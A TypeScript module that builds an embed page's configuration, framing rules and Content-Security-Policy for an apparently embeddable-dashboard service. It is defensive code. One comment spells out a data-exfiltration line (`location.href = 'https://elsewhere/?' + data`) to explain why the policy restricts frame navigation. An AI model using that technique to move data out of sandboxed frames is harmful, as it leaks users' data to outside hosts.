import { createHash } from 'node:crypto';
import { digestSecret } from '../core/core.digest.js';
import { CONSOLE_SESSION_PREFIX } from '../accounts/accounts.console.js';
import { findAccountOfConsoleDigest, findAccountOfDeployment, findEmbedAccountSettings } from '../accounts/accounts.store.js';
import { findAccountOfPublicId } from '../dashboards/dashboards.store.js';
import { isoTimestamp } from '../core/core.time.js';
import type { ServiceContext } from '../db/db.context.js';
import { SESSION_ID_PREFIX } from '../sessions/sessions.service.js';
import { findAccountOfSessionDigest } from '../sessions/sessions.store.js';

/** What an embed page request names: from its URL (and the console cookie, for a private embed). */
export interface EmbedPageRequest {
  sessionId: string | undefined;
  publicId: string | undefined;
  deploymentId: number | undefined;
  consoleCookie: string | undefined;
}

/** What the page is told before any script runs (embedded in its HTML as JSON): never a secret. */
export interface EmbedPageConfig {
  /** The host origins that may frame this page and exchange messages with it (SPEC "Embed messaging"). */
  allowedOrigins: string[];
  /**
   * Present for an admin's "View as a customer" session (sessions.preview.ts): the page is framed by svc's own
   * origin, the console, and by nothing else, and exchanges messages with it alone.
   */
  preview?: true;
}

/** The account that frames the page, and whether its session id is an admin's preview session's. */
interface Framing {
  accountId: number;
  preview: boolean;
}

/**
 * The account whose `allowedEmbedOrigins` govern the page: the session id's account (looked up by digest,
 * without redeeming it), else the console cookie's (private embedding), else the account of the dashboard or
 * deployment the URL names. Undefined when none resolves: such a page may be framed by nobody.
 */
async function findFraming(ctx: ServiceContext, request: EmbedPageRequest): Promise<Framing | undefined> {
  const { sessionId, consoleCookie, publicId, deploymentId } = request;
  if (sessionId !== undefined && sessionId.startsWith(SESSION_ID_PREFIX) && sessionId.length <= 200) {
    const session = await findAccountOfSessionDigest(ctx.db, digestSecret(sessionId));
    if (session !== undefined) return { accountId: session.accountId, preview: session.preview !== null };
  }
  const account = async (): Promise<number | undefined> => {
    if (sessionId === undefined && consoleCookie !== undefined && consoleCookie.startsWith(CONSOLE_SESSION_PREFIX)) {
      const found = await findAccountOfConsoleDigest(ctx.db, digestSecret(consoleCookie), isoTimestamp(ctx.now()));
      if (found !== undefined) return found;
    }
    if (publicId !== undefined && !publicId.includes('\u0000')) {
      const found = await findAccountOfPublicId(ctx.db, publicId);
      if (found !== undefined) return found;
    }
    if (deploymentId !== undefined) return findAccountOfDeployment(ctx.db, deploymentId);
    return undefined;
  };
  const accountId = await account();
  return accountId === undefined ? undefined : { accountId, preview: false };
}

/**
 * The page's config: the framing account's allowed origins, or none. A preview session's page lists none of them:
 * it is the console's to frame (`frameAncestorsOf`), never a host's.
 */
export async function describeEmbedPage(ctx: ServiceContext, request: EmbedPageRequest): Promise<EmbedPageConfig> {
  const framing = await findFraming(ctx, request);
  if (framing === undefined) return { allowedOrigins: [] };
  if (framing.preview) return { allowedOrigins: [], preview: true };
  return { allowedOrigins: (await findEmbedAccountSettings(ctx.db, framing.accountId)).allowedEmbedOrigins };
}

/** Who may frame the page: the allowed origins, or, for a preview session's page only, svc's own origin ('self'). */
export function frameAncestorsOf(config: EmbedPageConfig): string[] {
  return config.preview === true ? ["'self'"] : config.allowedOrigins;
}

/**
 * The page's Content-Security-Policy. `frame-ancestors` lists exactly the allowed origins ('none' when there are
 * none: an account that allowed no host cannot be framed at all). Scripts, styles and requests stay on svc's
 * own origin; the page's config travels as inert JSON. The one inline script, index.html's boot script (it starts
 * the session exchange before the bundle arrives), is allowed by its hash alone (`bootScriptHashes`).
 *
 * `frame-src 'self'` is what keeps an APP dashboard's code from sending data away by navigating its own frame
 * (`location.href = 'https://elsewhere/?' + data`): a frame cannot be stopped from navigating itself (CSP
 * `navigate-to` never shipped, and the Navigation API sends no `navigate` event to the app frame's opaque origin),
 * but every navigation of a frame is checked against its parent's `frame-src`, so one to another origin is
 * refused before its request is sent, and reported to this page, where AppView removes the frame
 * (e2e/app-sandbox.test.ts). `default-src 'self'` implied it; it is named so that a looser default cannot reopen
 * that path. Chromium still opens a connection to the refused host, so its name is looked up (docs/security.md).
 */
export function embedContentSecurityPolicy(allowedOrigins: readonly string[], scriptHashes: readonly string[] = []): string {
  const ancestors = allowedOrigins.length === 0 ? "'none'" : allowedOrigins.join(' ');
  return [
    "default-src 'self'",
    ['script-src', "'self'", ...scriptHashes.map((hash) => `'${hash}'`)].join(' '),
    "style-src 'self' 'unsafe-inline'",
    "img-src 'self' data: blob:",
    "connect-src 'self'",
    "font-src 'self' data:",
    "object-src 'none'",
    "frame-src 'self'",
    "child-src 'self'",
    "base-uri 'none'",
    "form-action 'none'",
    `frame-ancestors ${ancestors}`,
  ].join('; ');
}

/** The page's HTML: the built index.html with its config inserted as JSON that no `</script>` can end early. */
export function renderEmbedHtml(template: string, config: EmbedPageConfig): string {
  const json = JSON.stringify(config).replace(/</g, '\\u003c');
  return template.replace('</head>', `<script id="svc-embed-config" type="application/json">${json}</script></head>`);
}

/**
 * The CSP source of each inline classic script of the built index.html (`sha256-<base64>` of its text, as the
 * browser hashes it): the boot script. A script with `src` or a non-script `type` (the config's JSON) needs none.
 *
 * @example
 * bootScriptHashes('<script id="svc-boot">go()</script>'); // ['sha256-…']
 */
export function bootScriptHashes(template: string): string[] {
  const hashes: string[] = [];
  for (const match of template.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)) {
    const attributes = match[1]!;
    if (/\ssrc=/.test(attributes) || /\stype=/.test(attributes)) continue;
    hashes.push(`sha256-${createHash('sha256').update(match[2]!, 'utf8').digest('base64')}`);
  }
  return hashes;
}
